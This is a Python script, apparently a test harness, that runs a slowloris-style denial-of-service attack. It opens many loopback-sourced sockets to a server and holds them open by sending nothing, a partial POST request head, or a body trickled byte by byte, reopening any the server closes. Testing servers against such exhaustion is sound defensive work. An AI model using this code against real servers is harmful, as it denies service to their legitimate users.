"""Clients that mean no good: many sockets that say little or nothing, for as long as standard input is open.

attack.py ADDRESS PORT COUNT MODE

MODE is what each socket sends: "nothing", the "head" of a request, or its "body" byte by byte. Sockets come from 127.0.1.1, 127.0.1.2 ..., 250 from each, and one that the server closes is opened again, up to
COUNT times in all. Prints "ready" when the first of them are open.
"""

import errno
import resource
import selectors
import socket
import sys
import time

address, port, count, mode = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), sys.argv[4]
HEAD = b"POST /api/sessions HTTP/1.1\r\nHost: " + address.encode() + b":" + str(port).encode() + b"\r\n"
FIRST = {
    "nothing": b"",
    "head": HEAD,
    "body": HEAD + b"Content-Type: application/json\r\nContent-Length: 60000\r\n\r\n{",
}
AGAIN = {"head": b"X: y\r\n", "body": b" "}
PER_SOURCE = 250

hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
selector = selectors.DefaultSelector()
selector.register(sys.stdin, selectors.EVENT_READ)
opened = 0


def attack():
    global opened
    client = socket.socket()
    client.bind((f"127.0.1.{1 + opened // PER_SOURCE % 250}", 0))
    client.settimeout(30)
    opened += 1
    try:
        client.connect((address, port))
        client.setblocking(False)
        client.sendall(FIRST[mode])
    except OSError as error:
        # Closed at once to make room for others, or full.
        if error.errno not in (errno.ECONNRESET, errno.EPIPE, errno.EAGAIN):
            raise
    selector.register(client, selectors.EVENT_READ)


for n in range(count if mode == "nothing" else min(count, 1000)):
    attack()
print("ready", flush=True)

trickle = time.monotonic()
while True:
    for key, _ in selector.select(0.2):
        if key.fileobj is sys.stdin:
            sys.exit()
        try:
            gone = not key.fileobj.recv(65536)
        except OSError:
            gone = True
        if gone:
            selector.unregister(key.fileobj)
            key.fileobj.close()
            if opened < count:
                attack()
    if mode in AGAIN and time.monotonic() > trickle + 0.5:
        trickle = time.monotonic()
        for key in list(selector.get_map().values()):
            if key.fileobj is not sys.stdin:
                try:
                    key.fileobj.send(AGAIN[mode])
                except OSError:
                    pass
